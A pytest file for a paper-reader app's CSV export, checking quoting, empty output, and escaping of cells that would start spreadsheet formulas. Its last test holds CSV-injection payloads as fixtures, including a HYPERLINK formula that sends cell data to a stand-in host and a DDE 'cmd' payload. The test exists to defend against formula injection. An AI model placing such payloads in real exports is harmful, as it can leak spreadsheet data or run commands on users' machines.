"""CSV export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from reader.export import to_csv
from reader.export.csv import CSV_COLUMNS
from reader.models import Paper, Status


def test_rows_read_back_with_the_csv_module():
    papers = [
        Paper(
            id=1,
            title='Commas, "quotes"\nand newlines',
            authors=("A B", "C D"),
            year=2020,
            status=Status.READ,
            stars=4,
            tags=("x", "y"),
            added_at=datetime(2026, 3, 2, 9, 30, tzinfo=UTC),
        ),
        Paper(id=2, title="Bare"),
    ]
    rows = list(csv.DictReader(io.StringIO(to_csv(papers), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[0]["title"] == 'Commas, "quotes"\nand newlines'
    assert rows[0]["authors"] == "A B; C D"
    assert (rows[0]["stars"], rows[0]["status"], rows[0]["tags"]) == ("4", "read", "x; y")
    assert rows[0]["added_at"] == "2026-03-02T09:30:00+00:00"
    assert (rows[1]["year"], rows[1]["stars"], rows[1]["status"]) == ("", "", "unread")


def test_empty_export_is_just_the_header():
    assert to_csv([]).splitlines() == [",".join(CSV_COLUMNS)]


def test_cells_that_would_start_a_formula_are_quoted_numbers_are_not():
    """A spreadsheet runs a cell that starts with = + - @ (or a tab or CR) as a formula:
    the title ``=HYPERLINK(...)`` became a link and ``+cmd`` a command. Such text cells
    get a leading ``'``; numeric columns are written as numbers and stay so."""
    papers = [
        Paper(
            id=7,
            title='=HYPERLINK("http://evil.example/?"&A1, "click")',
            authors=("+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "Plain Name"),
            venue="\tTabbed",
            tags=("=x",),
            abstract="\r=1+1",
            year=2020,
            stars=3,
        ),
        Paper(id=8, title="A - B = C, with a plus+ inside", venue="J. @home"),
    ]
    rows = list(csv.DictReader(io.StringIO(to_csv(papers), newline="")))
    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1, "click")'
    assert rows[0]["authors"] == "'+cmd|' /C calc'!A0; -2+3; @SUM(1); Plain Name"
    assert (rows[0]["venue"], rows[0]["tags"], rows[0]["abstract"]) == (
        "'\tTabbed", "'=x", "'\r=1+1",
    )  # fmt: skip
    assert (rows[0]["id"], rows[0]["year"], rows[0]["stars"]) == ("7", "2020", "3")
    # Only the first character matters: inner signs are text as they were.
    assert (rows[1]["title"], rows[1]["venue"]) == ("A - B = C, with a plus+ inside", "J. @home")
